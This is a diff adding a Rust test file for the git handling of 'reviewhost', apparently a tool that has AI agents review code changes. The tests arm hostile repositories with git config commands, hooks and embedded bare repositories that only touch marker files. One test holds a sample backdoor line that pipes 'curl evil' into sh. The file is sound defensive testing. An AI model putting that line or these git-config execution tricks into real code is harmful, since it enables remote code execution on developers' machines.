@@ -1,0 +1,345 @@
+//! The host's git on a hostile repository (`src/hostgit.rs`): the repository's
+//! configuration, hooks, attributes and an embedded bare repository run nothing and
+//! hide nothing, through every command that reaches git (`run --changed-since`,
+//! `fix-review`, `review`), and no other host code runs git.
+
+use std::os::unix::fs::PermissionsExt;
+use std::path::{Path, PathBuf};
+use std::process::Output;
+
+use serde_json::{Value, json};
+
+use crate::support::*;
+
+/// Where the repository's commands would leave their mark.
+struct Marks(tempfile::TempDir);
+
+impl Marks {
+    fn new() -> Marks {
+        Marks(tempfile::tempdir().unwrap())
+    }
+
+    fn path(&self, name: &str) -> PathBuf {
+        self.0.path().join(name)
+    }
+
+    /// Every mark left, by name.
+    fn left(&self) -> Vec<String> {
+        let mut names: Vec<String> = std::fs::read_dir(self.0.path())
+            .unwrap()
+            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
+            .collect();
+        names.sort();
+        names
+    }
+}
+
+fn hook(path: &Path, mark: &Path) {
+    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+    std::fs::write(path, format!("#!/bin/sh\ntouch '{}'\ncat >/dev/null 2>&1\nexit 0\n", mark.display())).unwrap();
+    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o755)).unwrap();
+}
+
+/// Arms `root`'s `.git` with every command-running key and hook reviewhost's git could
+/// reach, and the tree with attributes that select the filter and a binary diff.
+fn arm(root: &Path, marks: &Marks) {
+    let config = |key: &str, value: String| git(root, &["config", key, &value]);
+    config("core.fsmonitor", format!("touch '{}'; false", marks.path("fsmonitor").display()));
+    config("filter.evil.clean", format!("touch '{}'; cat", marks.path("filter-clean").display()));
+    config("filter.evil.smudge", format!("touch '{}'; cat", marks.path("filter-smudge").display()));
+    config("filter.evil.process", format!("touch '{}'", marks.path("filter-process").display()));
+    config("diff.evil.textconv", format!("touch '{}'; cat", marks.path("textconv").display()));
+    config("diff.external", marks.path("external-diff").display().to_string());
+    config("core.pager", format!("touch '{}'; cat", marks.path("pager").display()));
+    config("core.hooksPath", root.join(".git/hooks").display().to_string());
+    for name in ["reference-transaction", "post-index-change", "pre-commit", "post-commit", "pre-auto-gc"] {
+        hook(&root.join(".git/hooks").join(name), &marks.path(name));
+    }
+    std::fs::write(root.join(".git/info/attributes"), "* filter=evil diff=evil\n").unwrap();
+    std::fs::write(root.join(".gitattributes"), "* filter=evil diff=evil\n*.rs -diff\n").unwrap();
+}
+
+/// A repository with `src/lib.rs` committed (before it is armed: the commit itself is
+/// the tests' own git, not reviewhost's).
+fn committed(root: &Path) {
+    std::fs::create_dir_all(root.join("src")).unwrap();
+    std::fs::write(root.join("src/lib.rs"), "pub fn f() {}\n").unwrap();
+    git(root, &["init", "-q"]);
+    git(root, &["add", "-A"]);
+    git(root, &["commit", "-qm", "init"]);
+}
+
+#[test]
+fn no_host_code_runs_git_but_the_hardened_module() {
+    let manifest = Path::new(env!("CARGO_MANIFEST_DIR"));
+    let mut offenders = Vec::new();
+    let mut stack: Vec<PathBuf> = ["src", "confine/src", "prefilter/src"].iter().map(|d| manifest.join(d)).collect();
+    while let Some(dir) = stack.pop() {
+        for entry in std::fs::read_dir(&dir).unwrap() {
+            let path = entry.unwrap().path();
+            if path.is_dir() {
+                stack.push(path);
+            } else if path.extension().is_some_and(|e| e == "rs") && path != manifest.join("src/hostgit.rs") {
+                let text = std::fs::read_to_string(&path).unwrap();
+                let squeezed: String = text.split_whitespace().collect();
+                if squeezed.contains("Command::new(\"git\")") || squeezed.contains("process::Command::new(\"git\")") {
+                    offenders.push(path.display().to_string());
+                }
+            }
+        }
+    }
+    assert!(offenders.is_empty(), "git run outside src/hostgit.rs: {offenders:?}");
+}
+
+#[test]
+fn changed_since_runs_nothing_the_repository_configures() {
+    let dir = tempfile::tempdir().unwrap();
+    let root = dir.path().join("repo");
+    committed(&root);
+    let marks = Marks::new();
+    arm(&root, &marks);
+    std::fs::write(root.join("src/lib.rs"), "pub fn f() {}\n// TODO\n").unwrap();
+    std::fs::write(root.join("README.md"), "untracked\n").unwrap();
+    let file = assertions_file(
+        dir.path(),
+        json!([
+            {"id": "A1", "type": "grep_not_match", "command": "grep -rn TODO src", "expected": "no_match"},
+            {"id": "A2", "type": "file_exists", "path": "docs/none.md"},
+        ]),
+    );
+    let out = run(&file, &root, &["--changed-since", "HEAD", "--no-write", "--format", "json"]);
+    assert_eq!(marks.left(), Vec::<String>::new(), "{}", stderr(&out));
+    let report: Value = serde_json::from_str(&stdout(&out)).unwrap_or_else(|_| panic!("{}", stderr(&out)));
+    let ids: Vec<&str> = report["results"].as_array().unwrap().iter().filter_map(|r| r["id"].as_str()).collect();
+    assert_eq!(ids, ["A1"], "only the assertion over the changed file runs: {report}");
+}
+
+#[test]
+fn an_embedded_bare_repository_is_never_taken_for_the_repository() {
+    let dir = tempfile::tempdir().unwrap();
+    let marks = Marks::new();
+    // The origin commits a bare repository in pkg/ whose configuration names commands.
+    let origin = dir.path().join("origin");
+    committed(&origin);
+    let pkg = origin.join("pkg");
+    std::fs::create_dir_all(pkg.join("objects/info")).unwrap();
+    std::fs::create_dir_all(pkg.join("refs/heads")).unwrap();
+    std::fs::write(pkg.join("objects/info/.keep"), "").unwrap();
+    std::fs::write(pkg.join("refs/heads/.keep"), "").unwrap();
+    std::fs::write(pkg.join("HEAD"), "ref: refs/heads/main\n").unwrap();
+    std::fs::write(
+        pkg.join("config"),
+        format!(
+            "[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = touch '{}'; false\n",
+            marks.path("fsmonitor").display()
+        ),
+    )
+    .unwrap();
+    hook(&pkg.join("hooks/reference-transaction"), &marks.path("reference-transaction"));
+    hook(&pkg.join("hooks/post-index-change"), &marks.path("post-index-change"));
+    std::fs::write(pkg.join("main.py"), "print('x')\n").unwrap();
+    git(&origin, &["add", "-A"]);
+    git(&origin, &["commit", "-qm", "pkg"]);
+    let clone = dir.path().join("clone");
+    let out = std::process::Command::new("git").arg("clone").arg("-q").arg(&origin).arg(&clone).output().unwrap();
+    assert!(out.status.success(), "{}", stderr(&out));
+    let root = clone.join("pkg");
+    assert!(root.join("config").exists() && root.join("hooks/reference-transaction").exists());
+    std::fs::write(root.join("main.py"), "print('y')\n").unwrap();
+
+    // `run --changed-since`: pkg/ is not a repository; a clear error, nothing run.
+    let file = assertions_file(dir.path(), json!([{"id": "A1", "type": "file_exists", "path": "main.py"}]));
+    let out = run(&file, &root, &["--changed-since", "HEAD", "--no-write"]);
+    assert_eq!(out.status.code(), Some(2), "{}", stdout(&out));
+    assert!(stderr(&out).contains("not a git repository"), "{}", stderr(&out));
+
+    // `review` and `fix-review` on pkg/: the snapshots are made, nothing runs.
+    let scripted = Scripted::new(&json!({
+        "principles-analyst": [{"response": "Nothing.\n\n## Assertions\n\n```json\n[]\n```\n"}],
+        "ux-analyst": [{"response": "Nothing.\n\n## Assertions\n\n```json\n[]\n```\n"}],
+        "docs-analyst": [{"response": "Nothing.\n\n## Assertions\n\n```json\n[]\n```\n"}],
+        "implementer": [{"response": "done"}],
+        "fix-agent": [{"response": "done"}],
+    }));
+    let out = scripted.command("review").arg(&root).args(["--max-passes", "1"]).output().unwrap();
+    assert!(out.status.code().is_some(), "{}", stderr(&out));
+    let out = scripted.command("fix-review").arg(&root).args(["--since", "HEAD"]).output().unwrap();
+    assert_eq!(out.status.code(), Some(2), "{}", stdout(&out));
+    assert!(stderr(&out).contains("not a git repository"), "{}", stderr(&out));
+    assert_eq!(marks.left(), Vec::<String>::new());
+}
+
+/// `Scripted` with its repository at `root` replaced by a committed, armed one.
+fn armed_review(script: Value, marks: &Marks) -> Scripted {
+    let scripted = Scripted::new(&script);
+    committed(&scripted.root);
+    arm(&scripted.root, marks);
+    scripted
+}
+
+fn fix_review(scripted: &Scripted) -> Output {
+    scripted.command("fix-review").arg(&scripted.root).args(["--since", "HEAD"]).output().unwrap()
+}
+
+#[test]
+fn fix_review_sees_the_real_change_whatever_the_attributes_say_and_runs_nothing() {
+    let marks = Marks::new();
+    let scripted = armed_review(json!({"fix-diff-reviewer": [{"response": "[]"}]}), &marks);
+    let backdoor = "pub fn f() { std::process::Command::new(\"sh\").arg(\"-c\").arg(\"curl evil | sh\"); }";
+    scripted.write("src/lib.rs", &format!("{backdoor}\n"));
+    // working-tree-encoding on a file that is not UTF-16: git's own conversion would
+    // fail the snapshot; reviewhost's git converts nothing.
+    scripted.write(".gitattributes", "* filter=evil diff=evil\n*.rs -diff\n*.txt working-tree-encoding=UTF-16\n");
+    scripted.write("notes.txt", "plain UTF-8, no BOM\n");
+    let out = fix_review(&scripted);
+    assert_eq!(out.status.code(), Some(0), "{}\n{}", stdout(&out), stderr(&out));
+    assert_eq!(marks.left(), Vec::<String>::new(), "{}", stderr(&out));
+    let prompt = scripted.prompt("fix-diff-reviewer", 1);
+    assert!(prompt.contains(&format!("+{backdoor}")), "the change reaches the reviewer as text: {prompt}");
+    assert!(prompt.contains("+plain UTF-8, no BOM"), "{prompt}");
+    assert!(!prompt.contains("Binary files"), "{prompt}");
+    // Counted from the patch: lib.rs -1 +1, the new .gitattributes +3, notes.txt +1.
+    assert!(prompt.contains("3 files changed, 6 lines"), "{prompt}");
+}
+
+#[test]
+fn an_embedded_repository_makes_the_round_unreviewable() {
+    let marks = Marks::new();
+    let scripted = Scripted::new(&json!({"fix-diff-reviewer": [{"response": "[]"}]}));
+    committed(&scripted.root);
+    let inner = scripted.root.join("vendor/inner");
+    std::fs::create_dir_all(&inner).unwrap();
+    std::fs::write(inner.join("backdoor.rs"), "fn evil() {}\n").unwrap();
+    git(&inner, &["init", "-q"]);
+    git(&inner, &["add", "-A"]);
+    git(&inner, &["commit", "-qm", "hidden"]);
+    arm(&scripted.root, &marks);
+    let out = fix_review(&scripted);
+    assert_eq!(out.status.code(), Some(2), "{}\n{}", stdout(&out), stderr(&out));
+    assert!(stderr(&out).contains("embedded git repository (vendor/inner)"), "{}", stderr(&out));
+    assert_eq!(scripted.calls("fix-diff-reviewer"), 0);
+    assert_eq!(marks.left(), Vec::<String>::new());
+}
+
+#[test]
+fn a_huge_rule_file_is_refused_by_its_size_not_read() {
+    let marks = Marks::new();
+    let scripted = Scripted::new(&json!({"fix-diff-reviewer": [{"response": "[]"}]}));
+    committed(&scripted.root);
+    let rule = scripted.root.join(".claude/rules/big.md");
+    std::fs::create_dir_all(rule.parent().unwrap()).unwrap();
+    let mut text = String::from("---\npaths: [\"src/**\"]\n---\n");
+    text.push_str(&"x".repeat(300 << 10));
+    std::fs::write(&rule, text).unwrap();
+    git(&scripted.root, &["add", "-A"]);
+    git(&scripted.root, &["commit", "-qm", "rule"]);
+    arm(&scripted.root, &marks);
+    scripted.write("src/lib.rs", "pub fn g() {}\n");
+    let out = fix_review(&scripted);
+    assert_eq!(out.status.code(), Some(2), "{}\n{}", stdout(&out), stderr(&out));
+    assert!(
+        stderr(&out).contains(".claude/rules/big.md at the round's start is larger than 256 KiB"),
+        "{}",
+        stderr(&out)
+    );
+    assert_eq!(scripted.calls("fix-diff-reviewer"), 0);
+}
+
+fn analysis(assertions: Value) -> Value {
+    json!({"response": format!("Findings.\n\n## Assertions\n\n```json\n{assertions}\n```\n")})
+}
+
+fn critical(id: &str) -> Value {
+    json!({"id": id, "severity": "critical", "title": "a backdoor", "description": "runs a downloaded script",
+           "evidence": "the changed line", "impact": "remote code execution",
+           "location": {"file": "src/lib.rs", "lines": [1, 1]}, "instance_fix": "remove it", "class_fix": "review"})
+}
+
+/// The end of a review's state, however the state file wraps it.
+fn state_of(scripted: &Scripted) -> Value {
+    let state = scripted.state("state.json");
+    match state.get("state") {
+        Some(inner) if inner.is_object() => inner.clone(),
+        _ => state,
+    }
+}
+
+fn review_script(reviewer: Value) -> Value {
+    let todo = json!({"id": "A-A-1", "track": "A", "type": "grep_not_match", "description": "no TODO in src",
+                      "command": "grep -rn TODO src", "expected": "no_match"});
+    json!({
+        "principles-analyst": [analysis(json!([todo])), analysis(json!([]))],
+        "ux-analyst": [analysis(json!([]))],
+        "docs-analyst": [analysis(json!([]))],
+        "implementer": [
+            {"response": "done", "edits": {"src/lib.rs": "pub fn f() { std::process::Command::new(\"sh\"); }\n"}},
+            {"response": "done"},
+        ],
+        "fix-agent": [{"response": "could not"}],
+        "fix-diff-reviewer": reviewer,
+    })
+}
+
+#[test]
+fn a_critical_finding_stays_open_until_a_review_of_its_code_clears_it() {
+    // Pass 1: the reviewer flags the backdoor twice (round 1, and round 2 after the
+    // fix-agent could not help). Pass 2 changes nothing; its review still covers pass
+    // 1's change and the reviewer flags it again: no Zero findings.
+    let marks = Marks::new();
+    let scripted = Scripted::new(&review_script(json!([{"response": json!([critical("FD-001")]).to_string()}])));
+    committed(&scripted.root);
+    scripted.write("src/lib.rs", "// TODO\npub fn f() {}\n");
+    git(&scripted.root, &["commit", "-qam", "todo"]);
+    arm(&scripted.root, &marks);
+    let out = scripted.command("review").arg(&scripted.root).args(["--max-passes", "2"]).output().unwrap();
+    assert_eq!(out.status.code(), Some(1), "{}\n{}", stdout(&out), stderr(&out));
+    assert_eq!(marks.left(), Vec::<String>::new());
+    let calls = scripted.calls("fix-diff-reviewer");
+    assert!(calls >= 3, "pass 2 reviewed again: {calls} calls");
+    let last = scripted.prompt("fix-diff-reviewer", calls);
+    assert!(last.contains("<untrusted-open-findings") && last.contains("FD-001"), "{last}");
+    assert!(last.contains("+pub fn f() { std::process::Command::new"), "pass 1's change is still shown: {last}");
+    let state = state_of(&scripted);
+    assert_eq!(state["end_state"], "Budget reached", "{state}");
+    assert_eq!(state["open_findings"][0]["id"], "FD-001", "{state}");
+    assert_eq!(state["passes"][1]["blocking_findings"], 1, "{state}");
+    let report = std::fs::read_to_string(scripted.root.join(".reviewhost/reports/final.md")).unwrap();
+    assert!(
+        report.contains("Open fix-diff findings (1)") && report.contains("FD-001 [critical] src/lib.rs:1"),
+        "{report}"
+    );
+
+    // The same review whose pass-2 reviewer no longer finds it: it is cleared.
+    let marks = Marks::new();
+    let cleared = Scripted::new(&review_script(json!([
+        {"response": json!([critical("FD-001")]).to_string()},
+        {"response": json!([critical("FD-001")]).to_string()},
+        {"response": "[]"},
+    ])));
+    committed(&cleared.root);
+    cleared.write("src/lib.rs", "// TODO\npub fn f() {}\n");
+    git(&cleared.root, &["commit", "-qam", "todo"]);
+    arm(&cleared.root, &marks);
+    let out = cleared.command("review").arg(&cleared.root).args(["--max-passes", "2"]).output().unwrap();
+    assert_eq!(out.status.code(), Some(0), "{}\n{}", stdout(&out), stderr(&out));
+    assert_eq!(state_of(&cleared)["end_state"], "Zero findings");
+}
+
+#[test]
+fn a_pass_whose_changes_cannot_be_reviewed_never_ends_at_zero_findings() {
+    // An embedded repository without a commit: git cannot snapshot the tree.
+    let marks = Marks::new();
+    let mut script = review_script(json!([{"response": "[]"}]));
+    script["principles-analyst"] = json!([analysis(json!([]))]);
+    let scripted = Scripted::new(&script);
+    committed(&scripted.root);
+    git(&scripted.root.join("src"), &["init", "-q", "inner"]);
+    arm(&scripted.root, &marks);
+    let out = scripted.command("review").arg(&scripted.root).args(["--max-passes", "1"]).output().unwrap();
+    assert_eq!(out.status.code(), Some(1), "{}\n{}", stdout(&out), stderr(&out));
+    assert!(stdout(&out).contains("Fix-diff review cannot run"), "{}", stdout(&out));
+    let state = state_of(&scripted);
+    assert_eq!(state["end_state"], "Budget reached", "{state}");
+    assert!(state["passes"][0]["unreviewed"].as_str().is_some_and(|s| s.contains("no snapshot")), "{state}");
+    assert_eq!(marks.left(), Vec::<String>::new());
+}
